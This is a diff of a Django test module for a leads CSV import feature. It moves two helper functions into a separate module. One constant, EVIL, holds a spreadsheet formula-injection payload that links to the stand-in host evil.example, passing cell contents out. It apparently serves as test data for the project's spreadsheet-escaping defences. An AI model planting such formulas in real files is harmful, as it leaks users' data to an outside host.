@@ -10,7 +10,6 @@ from __future__ import annotations
 import csv
 import io
 from datetime import timedelta
-from pathlib import Path
 
 import pytest
 import tablib
@@ -28,23 +27,12 @@ from leads.resources import (
     spreadsheet_unescape,
 )
 from leads.tests.factories import CompanyFactory, Fortune500CompanyFactory, LeadFactory, UserFactory
+from leads.tests.import_files import kinds, write_csv
 
 pytestmark = pytest.mark.django_db
 
 HEADER = ["email", "first_name", "last_name", "job_title", "company", "status", "owner"]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-
-def write_csv(path: Path, header: list[str], *rows: list[str]) -> Path:
-    with path.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.writer(handle)
-        writer.writerow(header)
-        writer.writerows(rows)
-    return path
-
-
-def kinds(lead: Lead) -> list[str]:
-    return list(lead.events.order_by("created_at", "id").values_list("kind", flat=True))
 
 
 def run_command(*args: str) -> tuple[str, str]:
